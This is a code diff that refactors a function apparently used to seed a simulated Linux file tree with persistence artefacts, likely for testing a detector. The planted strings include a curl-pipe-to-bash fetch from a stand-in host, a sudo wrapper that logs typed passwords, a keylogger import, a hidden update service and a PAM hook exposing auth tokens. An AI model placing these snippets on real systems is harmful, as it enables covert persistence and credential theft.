@@ -54,6 +54,13 @@ eval "$(starship init bash)"
 
 
 def plant(tree: Tree) -> None:
+    _system(tree)
+    _login(tree)
+    _hooks(tree)
+
+
+def _system(tree: Tree) -> None:
+    """Jobs and services."""
     _cron(tree, "alice", SCREEN_JOB)
     _at(tree, "/var/tmp/later")
     tree.write("/opt/keys.py", "from pynput import keyboard\n")
@@ -65,6 +72,10 @@ def plant(tree: Tree) -> None:
     tree.write("/opt/.upd/upd", "\x7fELF", 0o755)
     tree.write("/etc/systemd/system/upd.service", UNIT.format("Update", "/opt/.upd/upd", ""))
     _enable(tree, "upd.service")
+
+
+def _login(tree: Tree) -> None:
+    """What starts with a person's session or terminal."""
     tree.write("~/.config/autostart/update.desktop", ENTRY.format("Update", "/home/alice/.gconf-cache/upd"))
     units = "~/.config/systemd/user"
     tree.write(
@@ -89,6 +100,10 @@ def plant(tree: Tree) -> None:
         + 'curl -fs https://x.example/s | bash\nsudo() {\n  read -rsp \'Password: \' p\n  echo "$p" >> ~/.p\n  command sudo "$@"\n}\n',
     )
     tree.write("~/.profile", "script -qf ~/.cache/log\n")
+
+
+def _hooks(tree: Tree) -> None:
+    """What is run by something else: logging in, a stick, a question to a service, any program."""
     tree.write(
         "/etc/pam.d/common-auth",
         "auth\t[success=1 default=ignore]\tpam_unix.so nullok\nauth optional pam_exec.so quiet expose_authtok /usr/local/bin/keep\n",
